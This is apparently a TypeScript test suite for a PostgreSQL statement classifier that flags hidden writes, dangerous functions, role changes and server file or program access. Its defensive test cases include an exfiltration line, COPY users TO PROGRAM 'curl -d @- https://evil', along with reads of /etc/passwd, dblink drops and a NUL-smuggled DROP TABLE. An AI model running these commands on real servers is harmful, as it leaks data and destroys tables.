import type { SqlStatement } from '@airlock/contracts';
import { PostgresOperationSchema } from '@airlock/contracts';
import { classifySql, loadSqlParser, type Classification } from './index';

beforeAll(async () => {
  await loadSqlParser();
});

function statements(sql: string): SqlStatement[] {
  const c = classifySql(sql);
  if (!c.parsed) throw new Error(`${sql} did not parse: ${c.error}`);
  return c.statements;
}

function one(sql: string): SqlStatement {
  const s = statements(sql);
  if (s.length !== 1) throw new Error(`${sql} holds ${s.length} statements`);
  return s[0];
}

type Expected = Partial<SqlStatement>;

describe('commands and classes', () => {
  it.each<[string, string, SqlStatement['class']]>([
    ['SELECT 1', 'SELECT', 'read'],
    ['VALUES (1), (2)', 'SELECT', 'read'],
    ['TABLE orders', 'SELECT', 'read'],
    ['SELECT * FROM orders FOR UPDATE', 'SELECT', 'write'],
    ['INSERT INTO orders (id) VALUES (1)', 'INSERT', 'write'],
    ['UPDATE orders SET x = 1 WHERE id = 1', 'UPDATE', 'write'],
    ['DELETE FROM orders WHERE id = 1', 'DELETE', 'write'],
    ['MERGE INTO orders o USING src s ON o.id = s.id WHEN MATCHED THEN DELETE', 'MERGE', 'write'],
    ['TRUNCATE orders', 'TRUNCATE TABLE', 'write'],
    ['LOCK TABLE orders IN ACCESS EXCLUSIVE MODE', 'LOCK TABLE', 'write'],
    ['COPY orders TO STDOUT', 'COPY', 'read'],
    ['COPY (SELECT * FROM orders) TO STDOUT', 'COPY', 'read'],
    ['COPY orders FROM STDIN', 'COPY', 'write'],
    ['CREATE TABLE t (id int)', 'CREATE TABLE', 'ddl'],
    ['CREATE TABLE t2 AS SELECT * FROM orders', 'CREATE TABLE AS', 'ddl'],
    ['CREATE MATERIALIZED VIEW mv AS SELECT 1', 'CREATE MATERIALIZED VIEW', 'ddl'],
    ['SELECT * INTO t2 FROM orders', 'SELECT INTO', 'ddl'],
    ['ALTER TABLE orders ADD COLUMN x int', 'ALTER TABLE', 'ddl'],
    ['ALTER TABLE orders RENAME COLUMN a TO b', 'ALTER TABLE', 'ddl'],
    ['ALTER INDEX i RENAME TO j', 'ALTER INDEX', 'ddl'],
    ['ALTER VIEW v RENAME TO w', 'ALTER VIEW', 'ddl'],
    ['ALTER TABLE orders SET SCHEMA archive', 'ALTER TABLE', 'ddl'],
    ['DROP TABLE orders', 'DROP TABLE', 'ddl'],
    ['DROP INDEX i', 'DROP INDEX', 'ddl'],
    ['DROP MATERIALIZED VIEW mv', 'DROP MATERIALIZED VIEW', 'ddl'],
    ['DROP FUNCTION f(int)', 'DROP FUNCTION', 'ddl'],
    ['CREATE INDEX ON orders (id)', 'CREATE INDEX', 'ddl'],
    ['CREATE VIEW v AS SELECT * FROM orders', 'CREATE VIEW', 'ddl'],
    ['CREATE SEQUENCE s', 'CREATE SEQUENCE', 'ddl'],
    ['CREATE SCHEMA s', 'CREATE SCHEMA', 'ddl'],
    ["CREATE TYPE mood AS ENUM ('sad', 'ok')", 'CREATE TYPE', 'ddl'],
    ['CREATE TRIGGER tr BEFORE INSERT ON orders FOR EACH ROW EXECUTE FUNCTION trg()', 'CREATE TRIGGER', 'ddl'],
    ['CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING', 'CREATE RULE', 'ddl'],
    ["COMMENT ON TABLE orders IS 'x'", 'COMMENT', 'ddl'],
    ['REFRESH MATERIALIZED VIEW mv', 'REFRESH MATERIALIZED VIEW', 'ddl'],
    ["CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'", 'CREATE FUNCTION', 'ddl'],
    ['CREATE PROCEDURE p() LANGUAGE sql AS $$ SELECT 1 $$', 'CREATE PROCEDURE', 'ddl'],
    ['CREATE AGGREGATE a (int) (sfunc = int4pl, stype = int)', 'CREATE AGGREGATE', 'ddl'],
    ['GRANT SELECT ON orders TO bob', 'GRANT', 'dcl'],
    ['REVOKE ALL ON orders FROM bob', 'REVOKE', 'dcl'],
    ['GRANT admin TO bob', 'GRANT ROLE', 'dcl'],
    ['CREATE ROLE x LOGIN', 'CREATE ROLE', 'dcl'],
    ['CREATE USER x', 'CREATE ROLE', 'dcl'],
    ['ALTER USER bob WITH SUPERUSER', 'ALTER ROLE', 'dcl'],
    ['DROP ROLE bob', 'DROP ROLE', 'dcl'],
    ['ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob', 'ALTER DEFAULT PRIVILEGES', 'dcl'],
    ['ALTER TABLE orders OWNER TO bob', 'ALTER TABLE', 'dcl'],
    ['ALTER FUNCTION f() OWNER TO bob', 'ALTER FUNCTION', 'dcl'],
    ['REASSIGN OWNED BY a TO b', 'REASSIGN OWNED', 'dcl'],
    ['VACUUM orders', 'VACUUM', 'admin'],
    ['ANALYZE orders', 'ANALYZE', 'admin'],
    ['CLUSTER orders', 'CLUSTER', 'admin'],
    ['REINDEX TABLE orders', 'REINDEX', 'admin'],
    ['CHECKPOINT', 'CHECKPOINT', 'admin'],
    ["ALTER SYSTEM SET work_mem = '1GB'", 'ALTER SYSTEM', 'admin'],
    ["LOAD 'plugin'", 'LOAD', 'admin'],
    ['CREATE DATABASE d', 'CREATE DATABASE', 'admin'],
    ['DROP DATABASE d', 'DROP DATABASE', 'admin'],
    ['ALTER DATABASE d SET work_mem = 1', 'ALTER DATABASE', 'admin'],
    ['CREATE EXTENSION dblink', 'CREATE EXTENSION', 'admin'],
    ['DROP EXTENSION dblink', 'DROP EXTENSION', 'admin'],
    ["CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'x')", 'CREATE SERVER', 'admin'],
    ["CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p", 'CREATE SUBSCRIPTION', 'admin'],
    ['BEGIN', 'BEGIN', 'transaction'],
    ['START TRANSACTION READ ONLY', 'START TRANSACTION', 'transaction'],
    ['COMMIT', 'COMMIT', 'transaction'],
    ['ROLLBACK', 'ROLLBACK', 'transaction'],
    ['SAVEPOINT s', 'SAVEPOINT', 'transaction'],
    ['RELEASE SAVEPOINT s', 'RELEASE', 'transaction'],
    ['ROLLBACK TO SAVEPOINT s', 'ROLLBACK', 'transaction'],
    ["PREPARE TRANSACTION 'x'", 'PREPARE TRANSACTION', 'transaction'],
    ["COMMIT PREPARED 'x'", 'COMMIT PREPARED', 'transaction'],
    ['SET CONSTRAINTS ALL DEFERRED', 'SET CONSTRAINTS', 'transaction'],
    ['SET statement_timeout = 0', 'SET', 'session'],
    ['SET TRANSACTION ISOLATION LEVEL SERIALIZABLE', 'SET', 'session'],
    ['SHOW search_path', 'SHOW', 'session'],
    ['RESET statement_timeout', 'RESET', 'session'],
    ['RESET ALL', 'RESET', 'session'],
    ['DISCARD PLANS', 'DISCARD PLANS', 'session'],
    ['LISTEN x', 'LISTEN', 'session'],
    ['UNLISTEN *', 'UNLISTEN', 'session'],
    ["NOTIFY x, 'y'", 'NOTIFY', 'session'],
    ['DEALLOCATE p', 'DEALLOCATE', 'session'],
    ['DEALLOCATE ALL', 'DEALLOCATE ALL', 'session'],
    ['PREPARE p AS SELECT * FROM orders WHERE id = $1', 'PREPARE', 'session'],
    ['DECLARE c CURSOR FOR SELECT * FROM orders', 'DECLARE CURSOR', 'session'],
    ['FETCH 10 FROM c', 'FETCH', 'session'],
    ['MOVE NEXT FROM c', 'MOVE', 'session'],
    ['CLOSE c', 'CLOSE CURSOR', 'session'],
    ['CLOSE ALL', 'CLOSE CURSOR ALL', 'session'],
    ['EXPLAIN SELECT * FROM orders', 'EXPLAIN', 'read'],
    ['EXPLAIN DELETE FROM orders', 'EXPLAIN', 'read'],
    ['EXPLAIN (ANALYZE false) DELETE FROM orders', 'EXPLAIN', 'read'],
    ['DO $$ BEGIN NULL; END $$', 'DO', 'write'],
    ['CALL proc()', 'CALL', 'write'],
    ['EXECUTE p(1)', 'EXECUTE', 'write'],
  ])('%s → %s, %s', (sql, command, cls) => {
    expect(one(sql)).toMatchObject({ command, class: cls });
  });
});

describe('wrappers take the class and risks of what they run', () => {
  it.each<[string, Expected]>([
    ['EXPLAIN ANALYZE DELETE FROM orders', { class: 'write', risks: ['write-without-where'] }],
    ['EXPLAIN (ANALYZE) UPDATE orders SET x = 1 WHERE id = 1', { class: 'write', risks: [] }],
    ['EXPLAIN (ANALYZE on, BUFFERS) DELETE FROM orders WHERE id = 1', { class: 'write' }],
    ['PREPARE p AS DELETE FROM orders WHERE id = $1', { command: 'PREPARE', class: 'write', risks: [] }],
    ['PREPARE p AS UPDATE orders SET x = 1', { class: 'write', risks: ['write-without-where'] }],
    ['DECLARE c CURSOR FOR SELECT my_func() FROM orders', { class: 'write', risks: ['hidden-write'] }],
    ['CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u', { class: 'ddl', tables: ['t', 'u'] }],
  ])('%s', (sql, expected) => {
    expect(one(sql)).toMatchObject(expected);
  });

  it('plans EXPLAIN without ANALYZE: a read that still judges the functions it names', () => {
    expect(one('EXPLAIN DELETE FROM orders')).toEqual({
      command: 'EXPLAIN',
      class: 'read',
      tables: ['orders'],
      functions: [],
      risks: [],
    });
    expect(one('EXPLAIN WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d')).toMatchObject({
      class: 'read',
      tables: ['users'],
      risks: [],
    });
    // The planner may run an immutable user function while folding constants.
    expect(one('EXPLAIN SELECT my_func(1)')).toMatchObject({ class: 'write', risks: ['hidden-write'] });
    expect(one("EXPLAIN SELECT pg_read_file('x')").risks).toEqual(['dangerous-function']);
  });
});

describe('hidden writes', () => {
  it.each<[string, Expected]>([
    [
      'WITH d AS (DELETE FROM users WHERE id = 1 RETURNING *) SELECT * FROM d',
      { command: 'SELECT', class: 'write', tables: ['users'], risks: ['hidden-write'] },
    ],
    [
      'WITH u AS (UPDATE orders SET x = 1 RETURNING id) SELECT * FROM u',
      { command: 'SELECT', class: 'write', tables: ['orders'], risks: ['write-without-where', 'hidden-write'] },
    ],
    [
      'WITH i AS (INSERT INTO orders (id) VALUES (1) RETURNING id) VALUES (1)',
      { command: 'SELECT', class: 'write', risks: ['hidden-write'] },
    ],
    [
      'WITH d AS (DELETE FROM users WHERE id = 1 RETURNING *) INSERT INTO orders SELECT * FROM d',
      { command: 'INSERT', class: 'write', tables: ['orders', 'users'], risks: ['hidden-write'] },
    ],
    [
      'COPY (DELETE FROM orders WHERE id = 1 RETURNING *) TO STDOUT',
      { command: 'COPY', class: 'write', risks: ['hidden-write'] },
    ],
    [
      'SELECT * INTO copy_users FROM users',
      { command: 'SELECT INTO', class: 'ddl', tables: ['copy_users', 'users'], risks: ['hidden-write'] },
    ],
    ['CREATE TABLE t2 AS SELECT 1', { class: 'ddl', risks: ['hidden-write'] }],
    ['SELECT my_func()', { class: 'write', functions: ['my_func'], risks: ['hidden-write'] }],
    ['SELECT * FROM my_srf()', { class: 'write', functions: ['my_srf'], risks: ['hidden-write'] }],
    ['SELECT * FROM orders WHERE id = (SELECT my_f(1))', { class: 'write', risks: ['hidden-write'] }],
    ["SELECT nextval('s')", { class: 'write', functions: ['nextval'], risks: ['hidden-write'] }],
    ["SELECT setval('s', 1)", { class: 'write', risks: ['hidden-write'] }],
    ['SELECT lo_create(0)', { class: 'write', risks: ['hidden-write'] }],
    ["SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')", { class: 'write', risks: ['hidden-write'] }],
    ['DO $$ BEGIN DELETE FROM orders; END $$', { class: 'write', risks: ['hidden-write', 'procedural-code'] }],
    ['CALL proc(1)', { class: 'write', functions: ['proc'], risks: ['hidden-write'] }],
  ])('%s', (sql, expected) => {
    expect(one(sql)).toMatchObject(expected);
  });

  it('treats functions outside pg_catalog, or with capitals, as user functions whatever their name', () => {
    expect(one("SELECT public.lower('x')")).toMatchObject({ functions: ['public.lower'], risks: ['hidden-write'] });
    expect(one('SELECT "Lower"(\'x\')')).toMatchObject({ class: 'write', risks: ['hidden-write'] });
    expect(one('SELECT "PG_CATALOG".now()')).toMatchObject({ risks: ['hidden-write'] });
  });
});

describe('session-level functions', () => {
  it.each<[string, Expected]>([
    ['SELECT pg_advisory_lock(1)', { class: 'session', risks: [] }],
    ['SELECT pg_try_advisory_xact_lock(1)', { class: 'session', risks: [] }],
    ["SELECT pg_notify('c', 'x')", { class: 'session', risks: [] }],
    ["SELECT set_config('statement_timeout', '0', false)", { class: 'session', risks: [] }],
    ['SELECT txid_current(), pg_current_xact_id()', { class: 'read', risks: [] }],
  ])('%s', (sql, expected) => {
    expect(one(sql)).toMatchObject(expected);
  });
});

describe('dangerous functions and role changes', () => {
  it.each([
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT pg_catalog.pg_read_file('x')",
    "SELECT pg_read_binary_file('x')",
    "SELECT * FROM pg_ls_dir('.')",
    'SELECT * FROM pg_ls_waldir()',
    "SELECT pg_stat_file('x')",
    "SELECT lo_import('/etc/passwd')",
    "SELECT lo_export(1, '/tmp/x')",
    "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)",
    "SELECT dblink_exec('host=x', 'drop table t')",
    'SELECT pg_terminate_backend(1)',
    'SELECT pg_cancel_backend(1)',
    'SELECT pg_reload_conf()',
    'SELECT pg_rotate_logfile()',
    'SELECT pg_promote()',
    'SELECT pg_switch_wal()',
    "SELECT pg_create_restore_point('x')",
    "SELECT pg_backup_start('x')",
    "SELECT pg_create_logical_replication_slot('s', 'pgoutput')",
    "SELECT pg_drop_replication_slot('s')",
    'SELECT pg_wal_replay_pause()',
    'SELECT pg_log_backend_memory_contexts(1)',
    'SELECT pg_stat_reset()',
    "SELECT pg_file_write('x', 'y', false)",
    "SELECT set_config(current_user, 'x', false)",
  ])('%s', (sql) => {
    const s = one(sql);
    expect(s.class).toBe('admin');
    expect(s.risks).toContain('dangerous-function');
  });

  it.each([
    "SELECT set_config('role', 'admin', false)",
    "SELECT set_config('ROLE', 'admin', false)",
    "SELECT pg_catalog.set_config('session_authorization', 'admin', true)",
    "SELECT set_config('role'::text, 'admin', false)",
  ])('%s changes the role through set_config', (sql) => {
    expect(one(sql).risks).toEqual(['dangerous-function', 'role-change']);
  });

  it.each<[string, SqlStatement['class']]>([
    ['SET ROLE admin', 'dcl'],
    ['SET LOCAL ROLE admin', 'dcl'],
    ['SET SESSION AUTHORIZATION x', 'dcl'],
    ['RESET ROLE', 'dcl'],
    ['RESET SESSION AUTHORIZATION', 'dcl'],
    ['ALTER ROLE bob SET role = admin', 'dcl'],
    ['DISCARD ALL', 'session'],
  ])('%s changes the role', (sql, cls) => {
    expect(one(sql)).toMatchObject({ class: cls, risks: ['role-change'] });
  });
});

describe('settings that change how the server reads text', () => {
  it.each<[string, Expected]>([
    ['SET standard_conforming_strings = off', { command: 'SET', class: 'admin', risks: [] }],
    ['RESET standard_conforming_strings', { command: 'RESET', class: 'admin' }],
    ["SET client_encoding = 'SJIS'", { class: 'admin' }],
    ["SET NAMES 'BIG5'", { class: 'admin' }],
    [
      "SELECT set_config('standard_conforming_strings', 'off', false)",
      { class: 'admin', risks: ['dangerous-function'] },
    ],
    ['SET escape_string_warning = off', { class: 'session' }],
  ])('%s', (sql, expected) => {
    expect(one(sql)).toMatchObject(expected);
  });
});

describe('COPY', () => {
  it.each<[string, Expected]>([
    ['COPY users TO STDOUT', { class: 'read', tables: ['users'], risks: [] }],
    ['COPY orders FROM STDIN', { class: 'write', tables: ['orders'], risks: [] }],
    ["COPY users TO PROGRAM 'curl -d @- https://evil'", { class: 'admin', risks: ['server-program'] }],
    ["COPY users FROM PROGRAM 'id'", { class: 'admin', risks: ['server-program'] }],
    ["COPY users FROM '/etc/passwd'", { class: 'admin', risks: ['server-file'] }],
    ["COPY (SELECT 1) TO '/tmp/x'", { class: 'admin', risks: ['server-file'] }],
  ])('%s', (sql, expected) => {
    expect(one(sql)).toMatchObject({ command: 'COPY', ...expected });
  });
});

describe('write-without-where', () => {
  it.each<[string, SqlRiskList]>([
    ['UPDATE orders SET x = 1', ['write-without-where']],
    ['DELETE FROM orders', ['write-without-where']],
    ['DELETE FROM orders WHERE id = 1', []],
    ['DELETE FROM orders WHERE CURRENT OF c', []],
    ['UPDATE orders SET x = 1 FROM other WHERE other.id = orders.id', []],
    ['WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d', ['write-without-where', 'hidden-write']],
    // TRUNCATE removes every row: the most unbounded write.
    ['TRUNCATE orders', ['write-without-where']],
    ['TRUNCATE TABLE a, b RESTART IDENTITY CASCADE', ['write-without-where']],
  ])('%s', (sql, risks) => {
    expect(one(sql).risks).toEqual(risks);
  });
});
type SqlRiskList = SqlStatement['risks'];

describe('procedural code', () => {
  it('flags DO and function bodies, not triggers', () => {
    expect(one('DO $$ BEGIN NULL; END $$').risks).toContain('procedural-code');
    expect(one("CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS 'begin return 1; end'").risks).toEqual([
      'procedural-code',
    ]);
    expect(one('CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DELETE FROM t WHERE id = 1; END').risks).toEqual([
      'hidden-write',
      'procedural-code',
    ]);
    expect(one('CREATE TRIGGER tr AFTER INSERT ON orders EXECUTE FUNCTION trg()').risks).toEqual([]);
  });
});

describe('tables', () => {
  it.each<[string, string[]]>([
    ['SELECT * FROM orders o JOIN public.users u ON u.id = o.user_id', ['orders', 'public.users']],
    ['SELECT * FROM "Orders", ONLY Stock', ['orders', 'stock']],
    ['SELECT * FROM db.sch.tab', ['db.sch.tab']],
    [
      'SELECT (SELECT max(id) FROM a), EXISTS (SELECT 1 FROM b) FROM c, LATERAL (SELECT * FROM d) x',
      ['a', 'b', 'c', 'd'],
    ],
    ['SELECT * FROM orders WHERE id IN (SELECT order_id FROM items)', ['items', 'orders']],
    ['SELECT x FROM t UNION SELECT y FROM u EXCEPT SELECT z FROM t', ['t', 'u']],
    ['WITH a AS (SELECT * FROM orders) SELECT * FROM a', ['orders']],
    ['WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b, a', []],
    // Without RECURSIVE a CTE sees only the ones before it: here "a" in b is a table.
    ['WITH b AS (SELECT * FROM a), a AS (SELECT 1) SELECT * FROM b', ['a']],
    ['WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT * FROM r) SELECT * FROM r', []],
    // The CTE's own body reads the table it shadows.
    ['WITH users AS (SELECT * FROM users WHERE active) SELECT * FROM users', ['users']],
    // A schema-qualified name never refers to a CTE.
    ['WITH users AS (SELECT 1) SELECT * FROM public.users, users', ['public.users']],
    // CTE names end with their query.
    ['SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) s, x', ['x']],
    // DML targets are always tables, whatever CTE shares their name.
    ['WITH orders AS (SELECT 1) DELETE FROM orders WHERE id = 1', ['orders']],
    ['INSERT INTO orders SELECT * FROM users', ['orders', 'users']],
    ['UPDATE orders SET x = s.x FROM staging s WHERE s.id = orders.id', ['orders', 'staging']],
    ['MERGE INTO orders o USING src s ON o.id = s.id WHEN MATCHED THEN DELETE', ['orders', 'src']],
    ['COPY public.orders (id) FROM STDIN', ['public.orders']],
    ['TRUNCATE a, b', ['a', 'b']],
    ['LOCK TABLE a, s.b', ['a', 's.b']],
    ['DROP TABLE orders, public.Users', ['orders', 'public.users']],
    ['DROP VIEW v', ['v']],
    ['CREATE TABLE t (id int REFERENCES parent (id))', ['parent', 't']],
    ['ALTER TABLE orders ADD COLUMN x int', ['orders']],
    ['GRANT SELECT ON TABLE orders, s.t TO bob', ['orders', 's.t']],
    ['GRANT SELECT ON ALL TABLES IN SCHEMA public TO bob', []],
    ["COMMENT ON TABLE orders IS 'x'", ['orders']],
    ["COMMENT ON COLUMN s.orders.id IS 'x'", ['s.orders']],
    ['EXPLAIN ANALYZE SELECT * FROM orders', ['orders']],
    ['PREPARE p AS SELECT * FROM orders', ['orders']],
    ['CREATE VIEW v AS SELECT * FROM orders', ['orders', 'v']],
    ['CREATE TABLE t2 AS SELECT * FROM orders', ['orders', 't2']],
    ['CREATE RULE r AS ON INSERT TO t DO ALSO INSERT INTO log SELECT 1', ['log', 't']],
    ['VACUUM ANALYZE orders', ['orders']],
  ])('%s → %j', (sql, tables) => {
    expect(one(sql).tables).toEqual(tables);
  });
});

describe('functions', () => {
  it.each<[string, string[]]>([
    ['SELECT count(*), lower(name), pg_catalog.upper(name) FROM t', ['count', 'lower', 'pg_catalog.upper']],
    // Functions PostgreSQL's grammar names by SQL syntax show as written, not as pg_catalog.*.
    ["SELECT extract(year FROM now()), substring('abc' FROM 1), trim(' x ')", ['btrim', 'extract', 'now', 'substring']],
    ['SELECT coalesce(a, b), nullif(a, b), greatest(a, b) FROM t', []],
    ['SELECT row_number() OVER (ORDER BY lag(x) OVER ()) FROM t', ['lag', 'row_number']],
    ['SELECT * FROM t WHERE x = ANY (SELECT unnest(arr) FROM u)', ['unnest']],
    ['SELECT f(g(h(1)))', ['f', 'g', 'h']],
    ['SELECT Public.My_Func()', ['public.my_func']],
    ['CREATE FUNCTION s.f() RETURNS int LANGUAGE sql RETURN 1', ['s.f']],
    ['DROP FUNCTION f(int), s.g', ['f', 's.g']],
    ['DROP PROCEDURE p', ['p']],
    ['CREATE TRIGGER tr AFTER INSERT ON t EXECUTE FUNCTION trg()', ['trg']],
  ])('%s → %j', (sql, functions) => {
    expect(one(sql).functions).toEqual(functions);
  });

  it('judges functions anywhere in the tree', () => {
    for (const sql of [
      'SELECT * FROM t WHERE x IN (SELECT my_f(y) FROM u)',
      'SELECT * FROM t ORDER BY my_f(x)',
      'SELECT sum(x) FILTER (WHERE my_f(x)) FROM t',
      'INSERT INTO t VALUES (my_f(1))',
      'UPDATE t SET x = 1 WHERE my_f(x)',
      'DELETE FROM t USING u WHERE my_f(u.x)',
      'SELECT CASE WHEN x THEN my_f(1) END FROM t',
      'SELECT ARRAY[my_f(1)]',
      'SELECT my_f(1)::text',
      'SELECT * FROM t JOIN u ON my_f(t.x)',
      'WITH a AS (SELECT my_f(1)) SELECT * FROM a',
    ]) {
      expect({ sql, risks: one(sql).risks }).toEqual({ sql, risks: ['hidden-write'] });
    }
  });

  it('lets psql describe queries through as reads', () => {
    const describeTables =
      'SELECT n.nspname as "Schema", c.relname as "Name", CASE c.relkind WHEN \'r\' THEN \'table\' END as "Type", ' +
      'pg_catalog.pg_get_userbyid(c.relowner) as "Owner" FROM pg_catalog.pg_class c ' +
      'LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace ' +
      "WHERE c.relkind IN ('r','p','') AND n.nspname <> 'pg_catalog' AND n.nspname !~ '^pg_toast' " +
      'AND pg_catalog.pg_table_is_visible(c.oid) ORDER BY 1,2;';
    const listDatabases =
      'SELECT d.datname as "Name", pg_catalog.pg_get_userbyid(d.datdba) as "Owner", ' +
      'pg_catalog.pg_encoding_to_char(d.encoding) as "Encoding", pg_catalog.array_to_string(d.datacl, E\'\\n\') ' +
      'FROM pg_catalog.pg_database d ORDER BY 1;';
    const describeColumns =
      'SELECT a.attname, pg_catalog.format_type(a.atttypid, a.atttypmod), ' +
      '(SELECT pg_catalog.pg_get_expr(d.adbin, d.adrelid, true) FROM pg_catalog.pg_attrdef d ' +
      'WHERE d.adrelid = a.attrelid AND d.adnum = a.attnum AND a.atthasdef), a.attnotnull ' +
      "FROM pg_catalog.pg_attribute a WHERE a.attrelid = '16384' AND a.attnum > 0 AND NOT a.attisdropped ORDER BY a.attnum;";
    const roles =
      'SELECT r.rolname, r.rolsuper, ARRAY(SELECT b.rolname FROM pg_catalog.pg_auth_members m ' +
      'JOIN pg_catalog.pg_roles b ON (m.roleid = b.oid) WHERE m.member = r.oid) as memberof ' +
      "FROM pg_catalog.pg_roles r WHERE r.rolname !~ '^pg_' ORDER BY 1;";
    for (const sql of [describeTables, listDatabases, describeColumns, roles]) {
      expect({ sql, s: one(sql) }).toMatchObject({ sql, s: { class: 'read', risks: [] } });
    }
  });
});

describe('several statements', () => {
  it('gives one statement per statement, in order', () => {
    expect(statements('SELECT 1; DROP TABLE orders; BEGIN').map((s) => s.command)).toEqual([
      'SELECT',
      'DROP TABLE',
      'BEGIN',
    ]);
  });
});

describe('the text of a classification', () => {
  it('parses empty texts and texts of only comments as no statements', () => {
    for (const sql of ['', '   ', '-- nothing\n', '/* x */', ';']) {
      const c = classifySql(sql);
      expect(c).toMatchObject({ parsed: true, statements: [] });
      expect(c.fingerprint).toBe(classifySql(' ').fingerprint);
    }
  });

  it('fingerprints the structure and replaces literals with placeholders', () => {
    const a = classifySql("SELECT * FROM users WHERE email = 'a@example.com' AND id = 1");
    const b = classifySql("SELECT * FROM users WHERE email = 'b@example.com' AND id = 2");
    expect(a.fingerprint).toBe(b.fingerprint);
    expect(a.fingerprint).not.toBe(classifySql('SELECT * FROM orders').fingerprint);
    expect(a.normalized).toBe('SELECT * FROM users WHERE email = $1 AND id = $2');
  });

  it('keeps no literal or comment the normalizer leaves behind', () => {
    const cases: [string, string][] = [
      ["COPY users FROM '/srv/secret-file'", 'COPY users FROM $1'],
      ["COMMENT ON TABLE t IS 'token=abc'", 'COMMENT ON TABLE t IS $1'],
      ["SELECT 1 /* password=hunter2 */, 'x' -- key=abc\n", 'SELECT $1  , $2  \n'],
      ["CREATE ROLE x PASSWORD 'hunter2'", 'CREATE ROLE x PASSWORD $1'],
      ["SELECT E'a\\'b', $$dollar$$, $t$tagged$t$, x'ff', b'01', U&'d'", 'SELECT $1, $2, $3, $4, $5, $6'],
      ["SELECT 'é😀', 'x'", 'SELECT $1, $2'],
    ];
    for (const [sql, normalized] of cases) {
      expect({ sql, normalized: classifySql(sql).normalized }).toEqual({ sql, normalized });
    }
    // The secrets put in on purpose must be found in the input, or the check above proves nothing.
    expect(cases.map(([sql]) => sql).join(' ')).toMatch(/hunter2.*hunter2/s);
  });

  it('cuts the normalized text at the contract limit', () => {
    const sql = `SELECT ${Array.from({ length: 5000 }, (_, i) => `c${i}`).join(', ')} FROM t`;
    const c = classifySql(sql);
    expect(c.parsed).toBe(true);
    expect(c.normalized).toHaveLength(16384);
  });

  it('hashes what it cannot parse and returns the parser message only', () => {
    const sql = "SELEC 1 /* password='hunter2' */";
    const c = classifySql(sql);
    expect(c).toEqual({
      parsed: false,
      error: 'syntax error at or near "SELEC"',
      fingerprint: expect.stringMatching(/^unparsed:[0-9a-f]{32}$/),
      normalized: expect.stringMatching(/^sha256:[0-9a-f]{64}$/),
    });
    expect(c.normalized.slice(7, 39)).toBe(c.fingerprint.slice(9));
    expect(JSON.stringify(c)).not.toContain('hunter2');
    expect(classifySql("SELECT 'unterminated").parsed).toBe(false);
    // The parser would stop at the NUL and see only the first statement.
    expect(classifySql('SELECT 1\0; DROP TABLE orders')).toMatchObject({
      parsed: false,
      error: 'text contains a NUL character',
    });
  });

  it('refuses, as unparsed, what the contract cannot describe', () => {
    const manyTables = `SELECT * FROM ${Array.from({ length: 300 }, (_, i) => `t${i}`).join(', ')}`;
    expect(classifySql(manyTables)).toMatchObject({ parsed: false, error: 'statement names more than 256 tables' });
    expect(classifySql('SELECT 1;'.repeat(1001))).toMatchObject({ parsed: false });
    expect(classifySql('SELECT 1;'.repeat(1000))).toMatchObject({ parsed: true });
    const deep = `SELECT ${'(SELECT '.repeat(2000)}1${')'.repeat(2000)}`;
    expect(classifySql(deep).parsed).toBe(false);
  });

  it('produces what the operation contract accepts', () => {
    const samples = [
      'SELECT * FROM orders',
      "SELECT my_func(), pg_read_file('x'); DELETE FROM t; SET ROLE x",
      'SELEC',
      '',
      `SELECT ${'x, '.repeat(9000)}1`,
    ];
    for (const sql of samples) {
      const c: Classification = classifySql(sql);
      const op = {
        kind: 'postgres' as const,
        via: 'simple' as const,
        sql: c.normalized,
        fingerprint: c.fingerprint,
        parsed: c.parsed,
        statements: c.parsed ? c.statements : [],
        paramCount: 0,
      };
      expect(PostgresOperationSchema.safeParse(op).success).toBe(true);
    }
  });
});
